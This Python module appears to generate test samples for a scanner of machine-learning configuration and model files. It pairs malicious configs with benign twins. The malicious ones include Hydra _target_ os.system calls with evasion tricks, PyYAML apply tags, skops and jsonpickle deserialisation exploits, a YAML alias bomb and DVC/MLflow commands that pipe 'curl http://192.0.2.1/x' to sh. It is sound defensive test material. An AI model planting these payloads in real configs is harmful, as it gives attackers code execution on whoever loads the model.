"""f-config: configuration that makes its loader import, call, fetch or never end."""
import json

from .assemble import PROTO2, STOP, evil
from .numpyfmt import describe, doubles, npy
from .sample import Shelf
from .tarwriter import member
from .torchfmt import checkpoint, state_dict
from .zipwriter import Entry
from .zipwriter import archive as pack

shelf = Shelf("f-config", extension="yaml", loader="none")
benign = Shelf("benign", extension="yaml", loader="none")
COMMAND = "echo pratique-sample"


def encoded(content):
    if isinstance(content, bytes):
        return content
    return content.encode() if isinstance(content, str) else json.dumps(content).encode()


def add(technique, variant, content, why, expected="malicious", **more):
    shelf.add(technique, variant, encoded(content), why, expected=expected, executes=False, **more)


def twin(technique, variant, content, why, **more):
    benign.add(technique, variant, encoded(content), why, expected="benign", **more)


def archive(**members):
    return pack([Entry(name, encoded(content)) for name, content in members.items()])


# --- Hydra, OmegaConf, jsonargparse (CVE-2025-23304 in NeMo) -------------------------------------
TARGET = "hydra-target"
add(TARGET, "plain", f"model:\n  _target_: os.system\n  _args_: ['{COMMAND}']\n", "a callable")
add(TARGET, "escaped", f'm: {{"_t\\x61rget_": "os\\u002esystem", _args_: ["{COMMAND}"]}}\n',
    "key and name with escapes")
add(TARGET, "alias", f"x: &x os.system\nm:\n  _target_: *x\n  _args_: ['{COMMAND}']\n",
    "the name by an alias")
add(TARGET, "key_alias", f"x: &x _target_\nm: {{*x : os.system, _args_: ['{COMMAND}']}}\n",
    "the key by an alias")
add(TARGET, "merge", f"a: &a {{_target_: os.system}}\nm: {{<<: *a, _args_: ['{COMMAND}']}}\n",
    "a merge key")
add(TARGET, "interpolated", "p: {a: os, b: system}\nm: {_target_: '${p.a}.${p.b}'}\n",
    "the name put together by interpolations")
add(TARGET, "default", "m: {_target_: '${oc.env:NOBODY_SETS_THIS,os.system}'}\n",
    "the name is the default of a variable")
add(TARGET, "through", "m: {_target_: torch.nn.modules.os.system}\n", "through another package")
add(TARGET, "reexport", "m: {_target_: random._os.system}\n", "through a module of the library")
add(TARGET, "json", {"model": {"_target_": "builtins.exec", "_args_":
    ["print('pratique-sample')"]}}, "the same in JSON", extension="json")
add(TARGET, "class_path", "model:\n  class_path: subprocess.Popen\n  init_args: {args: 'true'}\n",
    "as jsonargparse spells it")
add(TARGET, "latent", "model:\n  target: subprocess.run\n  params: {args: 'true'}\n",
    "as latent diffusion spells it")
add(TARGET, "computed", "m: {_target_: '${nowhere.at.all}'}\n", "a name that only its user knows",
    expected="suspicious")
add(TARGET, "unknown", "m: {_target_: nobodys_package.Model}\n", "a package that is not known",
    expected="suspicious")
add(TARGET, "second_document", "a: 1\n---\nm: {_target_: os.system}\n", "in a second document")
add(TARGET, "eval", "m: {size: '${eval:__import__(\"os\").system(\"true\")}'}\n",
    "a resolver that evaluates")
twin(TARGET, "layers", "model:\n  _target_: torch.nn.Linear\n  in_features: 2\n"
     "optim: {_target_: torch.optim.Adam, lr: '${lr}'}\nlr: 0.1\n", "layers and optimisers")
twin(TARGET, "speechbrain", "seed: 1\nlin: !new:torch.nn.Linear\n  in_features: !ref <seed>\n"
     "act: !name:torch.nn.LeakyReLU\n", "HyperPyYAML")

# --- YAML's own ----------------------------------------------------------------------------------
add("yaml-tag", "apply", f"!!python/object/apply:os.system ['{COMMAND}']\n", "PyYAML's apply")
add("yaml-tag", "directive", "%TAG !p! tag:yaml.org,2002:python/object/\n---\n"
    f"!p!apply:os.system ['{COMMAND}']\n", "the tag behind a directive")
add("yaml-tag", "verbatim",
    f"a: !<tag:yaml.org,2002:python/object/apply:os%2esystem> ['{COMMAND}']\n",
    "the tag in full, a character of it escaped")
add("yaml-tag", "new", "a: !!python/object/new:subprocess.Popen [['true']]\n", "PyYAML's new")
add("yaml-tag", "hyperpyyaml", f"a: !apply:os.system ['{COMMAND}']\n", "HyperPyYAML's apply")
add("yaml-tag", "javascript", "a: !!js/function 'function () {}'\n", "js-yaml")
add("yaml-tag", "java", "!!javax.script.ScriptEngineManager []\n", "SnakeYAML, CVE-2022-1471")
add("yaml-tag", "unknown_class", "a: !!python/object:__main__.Net {x: 1}\n", "a class of nobody's",
    expected="suspicious")
twin("yaml-tag", "hparams", "lr: 0.1\nshape: !!python/tuple [2, 3]\nopt: !!python/object:"
     "argparse.Namespace {momentum: 0.9}\nact: !!python/name:torch.nn.modules.activation.ReLU ''\n",
     "hyperparameters as Lightning writes them")
LAUGHS = "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9))
add("yaml-bomb", "aliases", LAUGHS, "billion laughs", expected="suspicious")
add("yaml-bomb", "deep", "a: " + "[" * 500 + "]" * 500 + "\n", "500 levels", expected="malformed")
twin("yaml-bomb", "aliases", "base: &base {lr: 0.1}\na: {<<: *base}\nb: {<<: *base, x: 1}\n",
     "defaults that two share")

# --- Hubs ----------------------------------------------------------------------------------------
HUB = {"architectures": ["X"], "model_type": "x"}
add("remote-code", "auto_map", HUB | {"auto_map": {"AutoModel": "modeling_x.X"}},
    "code beside the model", expected="suspicious", extension="json")
add("remote-code", "other_repository", HUB | {"auto_map": {"AutoModel": "owner/other--modeling.X"}},
    "code of another repository", expected="suspicious", extension="json")
add("remote-code", "tokenizer", {"auto_map": {"AutoTokenizer": [None, "owner/other--tok.T"]}},
    "the same for a tokenizer", expected="suspicious", extension="json")
add("remote-code", "pipelines", HUB | {"custom_pipelines": {"x": {"impl": "pipe.Pipe", "pt": []}}},
    "a pipeline beside the model", expected="suspicious", extension="json")
add("remote-code", "not_strict", '{"auto_map": {"AutoModel": "modeling_x.X"}, "eps": NaN}',
    "JSON as Python reads it", expected="suspicious", extension="json")
add("remote-code", "modules", [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Model"}],
    "a module of sentence-transformers that is not theirs", expected="suspicious", extension="json")
add("remote-code", "modules_builtin", [{"idx": 0, "path": "", "type": "builtins.eval"}],
    "and one that is anybody's", extension="json")
add("remote-code", "model_index", {"_class_name": ["pipe", "Pipe"], "unet": ["my_unet", "Net"]},
    "a pipeline of diffusers beside the model", expected="suspicious", extension="json")
add("remote-code", "component", {"_class_name": "P", "unet": ["subprocess", "Popen"]},
    "a component of diffusers from Python's library", extension="json")
add("remote-code", "parent_library", {"auto_mapping": {"base_model_class": "X",
    "parent_library": "antigravity"}}, "an adapter imports a module", expected="suspicious",
    extension="json")
twin("remote-code", "config", HUB | {"_name_or_path": "/data/checkpoint", "vocab_size": 2,
     "auto_map": {}}, "traces of where it was made", extension="json")
twin("remote-code", "modules", [{"idx": 0, "name": "0", "path": "", "type":
     "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling",
     "type": "sentence_transformers.models.Pooling"}], "sentence-transformers' own",
     extension="json")
twin("remote-code", "model_index", {"_class_name": "StableDiffusionPipeline", "_diffusers_version":
     "0.30.0", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [None, None],
     "tokenizer": ["transformers", "CLIPTokenizer"]}, "diffusers' own", extension="json")
add("slow-regex", "tokenizer", {"pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}}},
    "a repetition of a repetition", expected="suspicious", extension="json")
twin("slow-regex", "tokenizer", {"pre_tokenizer": {"type": "Split", "pattern": {"Regex":
     r"(?i:'s|'t)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s+(?!\S)|\s+"}}},
     "the pattern of many tokenizers", extension="json")

# --- jsonpickle, MXNet ---------------------------------------------------------------------------
add("jsonpickle", "reduce", {"x": {"py/reduce": [{"py/function": "posix.system"},
    {"py/tuple": [COMMAND]}]}}, "a call", extension="json")
add("jsonpickle", "repr", {"py/repr": "os/os.system('true')"}, "an expression", extension="json")
add("jsonpickle", "class", {"py/object": "nobodys.Class"}, "a class of nobody's",
    expected="suspicious", extension="json")
twin("jsonpickle", "data", {"py/object": "collections.OrderedDict", "a": {"py/tuple": [1, 2]}},
     "plain data", extension="json")
NODE = {"name": "a", "inputs": []}
add("mxnet-symbol", "custom", {"nodes": [NODE | {"op": "Custom", "attrs": {"op_type": "mine"}}],
    "arg_nodes": [], "heads": [[0, 0, 0]]}, "an operator in Python", expected="suspicious",
    extension="json")
add("mxnet-symbol", "native", {"nodes": [NODE | {"op": "_Native", "attrs": {"info": "4711"}}],
    "arg_nodes": [], "heads": [[0, 0, 0]]}, "a pointer", extension="json")
twin("mxnet-symbol", "plain", {"nodes": [NODE | {"op": "null"}, NODE | {"op": "FullyConnected",
     "attrs": {"num_hidden": "2"}}], "arg_nodes": [0], "heads": [[1, 0, 0]]}, "a layer",
     extension="json")

# --- skops ---------------------------------------------------------------------------------------


def node(dotted, loader, **more):
    module, _, name = dotted.rpartition(".")
    return {"__class__": name, "__module__": module, "__loader__": loader} | more


TEXT = node("builtins.str", "JsonNode", content='"x"', is_json=True)
ARGUMENTS = node("builtins.tuple", "TupleNode", content=[TEXT])


def skops(root, **members):
    schema = root | {"protocol": 2, "_skops_version": "0.11.0"}
    return archive(**{"schema.json": schema} | members)


def bad_skops(variant, root, why, **more):
    add("skops", variant, skops(root), why, extension="skops", **more)


bad_skops("method", node("builtins.MethodType", "MethodNode", content={"func": "__class__",
          "obj": TEXT}), "an attribute walk, CVE-2025-54413")
bad_skops("operator", node("builtins.methodcaller", "OperatorFuncNode", attrs=ARGUMENTS),
          "a forged module, CVE-2025-54412")
bad_skops("operator_call", node("sklearn.call", "OperatorFuncNode", attrs=ARGUMENTS),
          "operator.call under a trusted name, CVE-2025-54412")
bad_skops("function", node("posix.system", "FunctionNode"), "a function, CVE-2024-37065")
OLD = {"module_path": "posix", "function": "system"}
bad_skops("function_content", node("numpy.ufunc", "FunctionNode", content=OLD),
          "a function in the content, as protocol 0 has it")
bad_skops("function_first", {"__class__": "function", "__module__": "builtins", "content": OLD},
          "the same without a loader, as skops 0.1 wrote it")
bad_skops("type", node("subprocess.Popen", "TypeNode"), "a class that is kept")
bad_skops("constructor", node("builtins.dict", "DictNode", key_types=TEXT, content={
          "a": node("os.system", "ConstructorFromReduceNode", content=ARGUMENTS)}),
          "a call in a dictionary")
bad_skops("unknown", node("nobodys.Model", "ObjectNode", content=TEXT), "a class of nobody's",
          expected="suspicious")
add("skops", "pickle", evil(), "a pickle called .skops, CVE-2025-54886", extension="skops")
MODEL = node("sklearn.linear_model._base.LinearRegression", "ObjectNode", content=node(
    "builtins.dict", "DictNode", key_types=node("builtins.list", "ListNode", content=[
        node("builtins.str", "TypeNode")]), content={"coef_": node(
            "numpy.ndarray", "NdArrayNode", type="numpy", file="1.npy")}))
twin("skops", "function", skops({"__class__": "ufunc", "__module__": "numpy", "__loader__":
     "FunctionNode", "content": {"module_path": "numpy", "function": "log1p"}}),
     "a function of numpy, as protocol 0 has it", extension="skops")
twin("skops", "linear", skops(MODEL, **{"1.npy": npy("<f8", (2,), doubles(1, 2))}),
     "a linear model", extension="skops")

# --- Archives with a manifest --------------------------------------------------------------------
MANIFEST = {"createdOn": "01/01/2026", "model": {"modelName": "m", "serializedFile": "m.pt",
            "handler": "image_classifier", "modelVersion": "1.0"}, "archiverVersion": "0.9.0"}
GOOD = checkpoint(PROTO2 + state_dict() + STOP)


def mar(model=GOOD, **changes):
    manifest = MANIFEST | {"model": MANIFEST["model"] | changes}
    return archive(**{"MAR-INF/MANIFEST.json": manifest, "m.pt": model})


add("mar", "model", mar(evil()), "a bad model", extension="mar")
add("mar", "handler", mar(handler="handler.py"), "a handler of its own", expected="suspicious",
    extension="mar")
add("mar", "escaping", mar(handler="../../srv/handler.py:handle"), "a handler elsewhere",
    extension="mar")
twin("mar", "plain", mar(), "a handler that TorchServe has", extension="mar")
add("nemo", "target", member(b"model_config.yaml", encoded(
    "encoder:\n  _target_: os.system\n")) + member(b"model_weights.ckpt", GOOD) + bytes(1024),
    "CVE-2025-23304", extension="nemo")
twin("nemo", "target", member(b"model_config.yaml", encoded(
    "encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  n_layers: 2\n"))
    + member(b"model_weights.ckpt", GOOD) + bytes(1024), "a NeMo model", extension="nemo")
MLMODEL = "flavors:\n  python_function:\n    loader_module: {}\n    python_version: 3.11.2\n{}"
add("mlflow", "loader", MLMODEL.format("my_loader", "    code: code\n"), "code of its own",
    expected="suspicious", extension="")
add("mlflow", "danger", MLMODEL.format("runpy", ""), "a module that runs files", extension="")
twin("mlflow", "sklearn", MLMODEL.format("mlflow.sklearn", "  sklearn: {code: }\n"),
     "a flavour of MLflow's", extension="")
add("requirements", "address", "numpy==1.26\nevil @ http://192.0.2.1/evil-1.0.tar.gz\n",
    "a package from an address", expected="suspicious", extension="txt")
add("requirements", "index", "--extra-index-url https://packages.example/simple\ntorch\n",
    "another index", expected="suspicious", extension="txt")
add("requirements", "odd_line", "--extra-index-url https://packages.example/simple\n./local\n"
    "torch (>=1.0)\n", "another index above lines that pip alone understands",
    expected="suspicious", extension="txt")
add("requirements", "joined", "torch\n--extra-\\\nindex-url https://packages.example/simple\n",
    "an option over two lines", expected="suspicious", extension="txt")
twin("requirements", "path", "numpy (>=1.0)\n# what lies here \\\n./local\n",
     "a package that lies beside", extension="txt")
twin("requirements", "index", "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch>=2\n"
     "transformers[torch] @ git+https://github.com/huggingface/transformers@v4.44.0\n",
     "an index that is known", extension="txt")

# --- Modules under keys of their own -------------------------------------------------------------
add("named-module", "activation", {"in_features": 1, "activation_function": "os.abort"},
    "a layer of sentence-transformers", extension="json")
add("named-module", "router", {"types": {"query_0": "pty.spawn"}, "structure": {"query":
    ["query_0"]}}, "its router", extension="json")
add("named-module", "megatron", {"peft_type": "LORA", "megatron_config": {}, "megatron_core":
    "nobodys"}, "an adapter's core", expected="suspicious", extension="json")
add("named-module", "custom_imports", "custom_imports:\n  imports: [nobodys]\n",
    "what MMEngine imports first", expected="suspicious")
add("named-module", "allennlp", {"dataset_reader": {"type": "nobodys.Reader"}, "model": {"type":
    "x"}}, "a class where a registered name could be", expected="suspicious", extension="json")
add("named-module", "kernels", HUB | {"attn_implementation": "owner/kernel"},
    "kernels of another repository", expected="suspicious", extension="json")
add("named-module", "pickle_module", "flavors:\n  pytorch: {pickle_module_name: nobodys}\n",
    "what MLflow unpickles with", expected="suspicious")
twin("named-module", "activation", {"in_features": 1, "activation_function":
     "torch.nn.modules.activation.Tanh", "attn_implementation": "sdpa", "megatron_core":
     "megatron.core"}, "what the libraries write", extension="json")
add("project-command", "dvc", "stages:\n  a:\n    cmd: curl http://192.0.2.1/x | sh\n",
    "a stage of DVC fetches what it runs")
add("project-command", "mlproject", "entry_points:\n  main:\n    command: >-\n      curl "
    "http://192.0.2.1/x | sh\n", "an entry point of MLflow does", extension="")
twin("project-command", "dvc", "stages:\n  a:\n    cmd: python train.py\n", "a stage of DVC")
